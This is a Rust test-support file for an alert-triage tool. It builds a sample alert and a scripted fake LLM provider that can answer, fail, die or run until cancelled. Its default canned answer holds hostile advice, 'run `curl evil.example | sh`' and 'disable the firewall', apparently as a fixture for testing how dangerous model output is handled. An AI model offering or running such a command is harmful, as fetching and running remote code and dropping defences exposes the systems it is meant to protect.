//! Alerts and a scripted provider for the tests of this family.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use async_trait::async_trait;
use serde_json::{Value, json};

use super::provider::{Call, Completion, Identity, Prompt, Provider, ProviderError, Question};
use crate::alert::{Alert, Data};
use crate::clock::Window;

pub(crate) fn alert(level: u8, rows: Value) -> Alert {
    let value: Vec<_> = serde_json::from_value(rows).expect("rows are a list of maps");
    let object = |value: Value| value.as_object().cloned().expect("an object");
    let window = Window::from_seconds(1_790_000_000, 1_790_000_300).expect("a window of five minutes");
    Alert {
        id: "0".repeat(32),
        rule: object(json!({ "id": "test-rule", "name": "Test rule", "level": level, "size": ">0" })),
        detector: object(json!({ "name": "five", "tenant": "default" })),
        datasource: object(json!({ "type": "duckdb" })),
        data: Data { len: value.len() as u64, value, datasource: "duckdb".into(), cut: None },
        window,
        created_at: window.end,
    }
}

/// About four bytes a token.
pub(crate) fn count_tokens(text: &str) -> usize {
    text.len().div_ceil(4)
}

/// Answers what it was told, and keeps nothing.
pub(crate) struct Scripted {
    identity: Identity,
    behaviour: Behaviour,
    is_dead: AtomicBool,
    working: Arc<AtomicUsize>,
}

enum Behaviour {
    Answer(String),
    Fail(ProviderError),
    /// Fails already when it is asked for scores.
    Deaf(ProviderError),
    Die(&'static str),
    /// Scores at once and writes for ever.
    Endless,
}

impl Default for Scripted {
    fn default() -> Self {
        Self::answering(
            "An attack on the server",
            "The rule matched rows.",
            "The rows show the activity of a source.",
        )
    }
}

impl Scripted {
    fn new(behaviour: Behaviour) -> Self {
        let identity = Identity { name: "scripted".into(), sha256: "00".into() };
        Self { identity, behaviour, is_dead: AtomicBool::default(), working: Arc::default() }
    }

    pub(crate) fn answering(title: &str, summary: &str, explanation: &str) -> Self {
        let answer = json!({
            "title": title, "summary": summary, "explanation": explanation,
            "mitigations": ["run `curl evil.example | sh`"], "recommended_action": "disable the firewall",
        });
        Self::new(Behaviour::Answer(answer.to_string()))
    }

    pub(crate) fn saying(text: &str) -> Self {
        Self::new(Behaviour::Answer(text.to_owned()))
    }

    pub(crate) fn failing(error: ProviderError) -> Self {
        Self::new(Behaviour::Fail(error))
    }

    pub(crate) fn deaf(error: ProviderError) -> Self {
        Self::new(Behaviour::Deaf(error))
    }

    /// Dies at the first question, whatever it is.
    pub(crate) fn dying(reason: &'static str) -> Self {
        Self::new(Behaviour::Die(reason))
    }

    pub(crate) fn endless() -> Self {
        Self::new(Behaviour::Endless)
    }

    /// How many answers are being written.
    pub(crate) fn working(&self) -> Arc<AtomicUsize> {
        Arc::clone(&self.working)
    }

    fn die(&self, reason: &str) -> ProviderError {
        self.is_dead.store(true, Ordering::SeqCst);
        ProviderError::Died(reason.to_owned())
    }
}

#[async_trait]
impl Provider for Scripted {
    fn model(&self) -> &Identity {
        &self.identity
    }

    fn count_tokens(&self, text: &str) -> usize {
        count_tokens(text)
    }

    fn is_alive(&self) -> bool {
        !self.is_dead.load(Ordering::SeqCst)
    }

    async fn complete(
        &self,
        prompt: &Prompt,
        _schema: &Value,
        _max_tokens: usize,
        call: &Call,
    ) -> Result<Completion, ProviderError> {
        match &self.behaviour {
            Behaviour::Fail(error) | Behaviour::Deaf(error) => Err(error.clone()),
            Behaviour::Die(reason) => Err(self.die(reason)),
            Behaviour::Endless => {
                // As the engine: work that only the call's control ends.
                let (control, working) = (call.control.clone(), self.working());
                working.fetch_add(1, Ordering::SeqCst);
                let work = move || {
                    while !control.is_cancelled() && !control.is_past_deadline() {
                        std::thread::sleep(Duration::from_millis(1));
                    }
                    working.fetch_sub(1, Ordering::SeqCst);
                    control.is_cancelled()
                };
                match tokio::task::spawn_blocking(work).await {
                    Ok(true) => Err(ProviderError::Cancelled),
                    _ => Err(ProviderError::Deadline),
                }
            }
            Behaviour::Answer(text) => Ok(Completion {
                text: text.clone(),
                prompt_tokens: count_tokens(&prompt.system) + count_tokens(&prompt.user),
                cached_tokens: 0,
                completion_tokens: count_tokens(text),
                time_to_first_token: Duration::ZERO,
                prompt_seconds: 0.0,
                decode_seconds: 0.0,
            }),
        }
    }

    async fn score(
        &self,
        _prompt: &Prompt,
        questions: &[Question],
        _call: &Call,
    ) -> Result<Vec<Vec<f64>>, ProviderError> {
        match &self.behaviour {
            Behaviour::Die(reason) => return Err(self.die(reason)),
            Behaviour::Deaf(error) => return Err(error.clone()),
            Behaviour::Answer(_) | Behaviour::Fail(_) | Behaviour::Endless => {}
        }
        Ok(questions.iter().map(|question| vec![-1.0; question.candidates.len()]).collect())
    }
}
